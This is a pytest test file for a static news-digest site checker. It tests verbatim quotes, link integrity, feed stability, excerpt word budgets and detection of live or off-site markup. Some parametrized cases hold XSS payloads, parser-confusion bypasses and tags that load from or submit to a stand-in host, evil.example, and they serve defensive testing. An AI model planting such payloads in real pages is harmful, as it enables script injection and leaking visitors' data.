"""Each promise is kept by a site as built, and seen to be broken where a file was changed: by that check, and named."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from digest.check import CHECKS, check
from digest.settings.values import ExcerptSettings
from digest.values import PublishedStory, Record, SourceFile
from tests.check.built import CLINIC, ROOT, broken, edited, made, sample, sources_of, whole_sample, with_files

STORY, PAGE, AUDIT = f"{CLINIC}/story.json", f"{CLINIC}/index.html", f"{CLINIC}/audit/index.html"
PICK = "Upstairs in Brackenford hospital the painters have reached the last room."
LINE = "Did you use the night clinic?"
GUID = "urn:uuid:2423530f-9929-5c18-b44b-30cb3f92d331"
ARTICLE = (ROOT / "seeds/2025-08-20/clinic-2-chronicle.txt").read_text("utf-8")


def test_a_site_as_built_keeps_all_promises_and_each_check_looked_at_something() -> None:
    verdicts = check(sample().seen)
    assert [verdict.promise for verdict in verdicts if verdict.broken] == []
    assert len(verdicts) == len(CHECKS) == len({verdict.promise for verdict in verdicts})
    assert min(verdict.looked_at for verdict in verdicts) >= 1


@pytest.mark.parametrize("folder", [ROOT, ROOT / "tests/golden/site"], ids=["sample", "golden"])
def test_whole_sites_keep_all_promises(folder: Path) -> None:
    assert broken(made(folder, sources_of(folder)).seen) == {}


def test_a_story_without_a_summary_keeps_all_promises() -> None:
    seen = made(ROOT / "tests/golden", [SourceFile("a.txt", b"He said so.\n\nThey came, and then it was late.\n")]).seen
    assert [story.data["summary"] for story in seen.site.stories] == [[]]
    assert broken(seen) == {}


def test_sources_that_run_from_right_to_left_keep_all_promises() -> None:
    matter = "---\noutlet: עיתון הנמל\nlanguage: he\nurl: https://namal.example/gesher\n---\n"
    said = "מועצת העיר הודיעה ביום שני כי הגשר הישן בנמל ייסגר לאחד עשר שבועות בשל סדקים בכבלים."
    source = SourceFile("a.md", f"{matter}# הגשר הישן בנמל ייסגר\n\n{said}\n".encode())
    seen = made(ROOT / "tests/golden", [source]).seen
    assert [pick["text"] for story in seen.site.stories for pick in story.listed("summary")] == [said]
    assert broken(seen) == {}


def test_a_site_of_hostile_texts_keeps_all_promises() -> None:
    live = "<script>alert(1)</script><img src=x onerror=alert(2)> javascript:alert(3) ]]> &lt;b&gt; "
    said = "The eastern lock in Saltmere was closed on Sunday after a barge had struck the gate, the port said. "
    matter = f'---\ntitle: "{live}"\noutlet: "<b onclick=alert(1)>Courier"\nurl: "https://x.example/?<script>"\n---\n'
    sources = [
        SourceFile("a.txt", f"{live}\n\n“{live}” said Mara Voss. {said}\n{live}\n".encode()),
        SourceFile("b.md", f"{matter}\n{said}{said}\u202e{live}\n".encode()),
    ]
    assert broken(made(ROOT / "tests/golden", sources).seen) == {}


@pytest.mark.parametrize(
    ("path", "old", "new", "promise", "told"),
    [
        (STORY, PICK, PICK.replace("painters", "plumbers"), "verbatim", "found “Upstairs in Brackenford hospital"),
        (STORY, '"start": 55', '"start": 56', "verbatim", "at 56 to 128 of 2025-08-20/clinic-2-chronicle.txt"),
        (STORY, '"article": "2025-08-20-clinic-2-chronicle"', '"article": "b"', "verbatim", "no such article"),
        (PAGE, "<p>We met two other cars", "<p>We saw two other cars", "verbatim", "in its place, found “We saw"),
        (PAGE, 'href="#main"', 'href="https://x.example/#:~:text=never%20said"', "verbatim", "“never said”"),
        (AUDIT, LINE, "", "ledger", "found no account of line 25"),
        (STORY, '"removed": 7', '"removed": 6', "ledger", "expected 7 of 28 lines"),
        (PAGE, 'href="../../archive/index.html"', 'href="../../archiv/"', "links", "no archiv/index.html"),
        (PAGE, 'href="#source-b"', 'href="#source-z"', "links", "found no id 'source-z'"),
        (PAGE, 'id="source-b"', 'id="source-a"', "links", "found 'source-a' again"),
        (PAGE, 'href="../../about/index.html"', 'href="../../../about/"', "links", "leads out of its folder"),
        (PAGE, 'href="../../about/index.html"', 'href="/about/index.html"', "links", "expected a relative link"),
        ("404.html", 'href="/about/index.html"', 'href="/abut/index.html"', "links", "no abut/index.html"),
        ("feed.xml", GUID, GUID[:-1] + "0", "stable", f"expected the id '{GUID}'"),
        ("feed.xml", "<item>", "<item><a>", "stable", "expected well-formed XML"),
        ("feed.xml", "<rss", "<!DOCTYPE rss><rss", "stable", "without a DOCTYPE"),
        ("feed.xml", "<pubDate>", "<pubDate>19 August</pubDate><pubDate>", "stable", "a date of RFC 822"),
        ("atom.xml", GUID, "urn:x", "stable", "expected the id"),
        ("atom.xml", "<published>", "<published>soon</published><published>", "stable", "a date of RFC 3339"),
        ("feed.json", GUID, "", "stable", "expected an item with id, title and link"),
        ("feed.xml", f"<link>https://briefing.example/{CLINIC}/", "<link>https://x.example/", "stable", "page of this"),
        (STORY, '"summary"', '"summary', "stable", "expected JSON"),
    ],
)
def test_what_was_changed_is_found(path: str, old: str, new: str, promise: str, told: str) -> None:
    found = broken(edited(path, old, new))
    assert promise in found, found
    assert any(told in line for line in found[promise]), found[promise]
    assert any(line.startswith((path, path.rpartition("/")[0])) for line in found[promise])


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/a.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)></svg>",
        "<iframe srcdoc=x></iframe>",
        "<style>p{}</style>",
        "<p style='background:url(//evil.example/a)'>",
        "<img src=https://evil.example/pixel.png alt=''>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<link rel=preconnect href=https://evil.example>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=' JAVASCRIPT:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<form action=https://evil.example/></form>",
        "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
        "<object data=x></object>",
        "<base href=https://evil.example/>",
        "<svg><use href='https://evil.example/#a'/></svg>",
        # What a browser takes for an element here, Python's parser takes for a comment or an attribute.
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?x ><img src=x onerror=alert(1)> ?>",
        '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
)
def test_what_is_live_or_asks_another_host_is_found_on_pages_and_in_feeds(markup: str) -> None:
    found = broken(edited(PAGE, "</main>", f"{markup}</main>"))
    assert found["inert"], markup
    escaped = markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert broken(edited("feed.xml", "&lt;p&gt;", f"&lt;p&gt;{escaped}"))["inert"], markup
    quoted = json.dumps(markup)[1:-1]
    assert broken(edited("feed.json", '"content_html": "', f'"content_html": "{quoted}'))["inert"], markup


@pytest.mark.parametrize(
    "markup",
    [
        '<script type="application/ld+json">{"a": "<b onclick=x>"}</script>',
        '<script src="assets/own.js"></script>',
        '<img src="data:image/png;base64,AAAA" alt="">',
        '<a href="https://x.example/">original</a>',
        '<a href="mailto:a@x.example">mail</a>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ],
)
def test_what_a_theme_answers_for_is_no_harm(markup: str) -> None:
    home = sample().files["index.html"].decode().replace("</main>", f"{markup}</main>").encode()
    assert broken(with_files({"index.html": home, "assets/own.js": b"1"})) == {}


def test_inline_code_is_the_themes_own_if_its_policy_names_the_hash() -> None:
    script = "<script>1</script>"
    assert "inert" in broken(edited("index.html", "</main>", f"{script}</main>"))
    # The SHA-256 of "1".
    policy = "script-src 'sha256-a4ayc/80/OGda4BO/1o/V0etpOqiLx1JwB5S3beHW0s='"
    html = sample().files["index.html"].decode().replace("default-src", f"{policy}; default-src", 1)
    assert broken(with_files({"index.html": html.replace("</main>", f"{script}</main>").encode()})) == {}


def test_a_stylesheet_loads_nothing_from_elsewhere() -> None:
    path = next(path for path in sample().files if path.endswith(".css"))
    css = sample().files[path] + b"@import 'https://evil.example/a.css'; p { background: url(//evil.example/b) }"
    assert len(broken(with_files({path: css}))["inert"]) == 2


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("about/index.html", "</main>", f"<p>{ARTICLE}</p></main>"),
        ("about/index.html", "</main>", f"<!-- {ARTICLE} --></main>"),
        ("about/index.html", "<main", f'<main title="{ARTICLE.replace(chr(34), "&quot;")}"'),
        ("feed.xml", "</description>", f"{ARTICLE.replace('&', '&amp;').replace('<', '&lt;')}</description>"),
        ("index.json", '"title":', f'"note": {json.dumps(ARTICLE)}, "title":'),
        (".nojekyll", "", ""),
    ],
)
def test_a_whole_article_breaks_the_budget_in_whatever_file(path: str, old: str, new: str) -> None:
    seen = edited(path, old, new) if old else with_files({"copy.txt": ARTICLE.encode()})
    told = re.compile(r"expected at most 67 words of 2025-08-20/clinic-2-chronicle.txt .*, found 3\d\d$")
    assert any(told.search(line) for line in broken(seen)["budget"])


def test_the_limits_are_those_of_the_settings() -> None:
    def judged(excerpt: ExcerptSettings) -> dict[str, list[str]]:
        seen = whole_sample().seen
        return broken(replace(seen, settings=type(seen.settings)(excerpt=excerpt)))

    assert judged(ExcerptSettings(max_words=None, max_share=None, max_sentences=None)) == {}
    assert "budget" in judged(ExcerptSettings(max_words=41))
    told = judged(ExcerptSettings(max_sentences=1))["budget"][0]
    assert "expected at most 1 sentences of" in told


def test_a_file_that_was_changed_or_is_gone_is_no_longer_what_was_built() -> None:
    home = sample().files["index.html"]
    assert list(broken(with_files({"index.html": home + b"\n"}, relisted=False))) == ["whole"]
    assert "whole" in broken(with_files({"robots.txt": None}, relisted=False))
    # What others put there is theirs.
    assert broken(with_files({"CNAME": b"briefing.example\n"}, relisted=False)) == {}


def test_sources_that_were_changed_since_are_told() -> None:
    seen = sample().seen
    one, *others = seen.articles.values()
    changed = replace(one.cleaned.raw, sha256="0" * 64)
    now = {one.id: replace(one, cleaned=replace(one.cleaned, raw=changed))}
    assert "found it changed" in broken(replace(seen, articles={**seen.articles, **now}))["current"][0]
    assert "found no such file" in broken(replace(seen, articles={o.id: o for o in others}))["current"][0]
    stranger = replace(one, cleaned=replace(one.cleaned, raw=replace(changed, path="new.txt", id="new")))
    assert "in no story" in broken(replace(seen, articles={**seen.articles, "new": stranger}))["current"][0]


def test_an_address_that_was_given_before_stays() -> None:
    seen = sample().seen
    moved = PublishedStory("2423530f9929", "old-address", GUID, "2025-08-19", ())
    (told,) = broken(replace(seen, record=Record(None, (moved,))))["stable"]
    assert "expected story 2423530f9929 at stories/old-address/, found it at" in told
    merged = replace(moved, id="a" * 12, slug="merged-away", merged_into="2423530f9929")
    (told,) = broken(replace(seen, record=Record(None, (merged,))))["stable"]
    assert "expected stories/merged-away/ to lead on" in told


def test_lines_that_do_not_give_back_the_file_are_told() -> None:
    seen = sample().seen
    path = "2025-08-20/clinic-2-chronicle.txt"
    told = broken(replace(seen, sources={**seen.sources, path: seen.sources[path] + b"more"}))
    assert list(told) == ["ledger"]
    article = seen.articles["2025-08-20-clinic-2-chronicle"]
    shorter = replace(article, cleaned=replace(article.cleaned, ledger=article.cleaned.ledger[:-1]))
    (line, *_) = broken(replace(seen, articles={**seen.articles, article.id: shorter}))["ledger"]
    assert "expected each of 26 lines once in the ledger, found 25 entries" in line
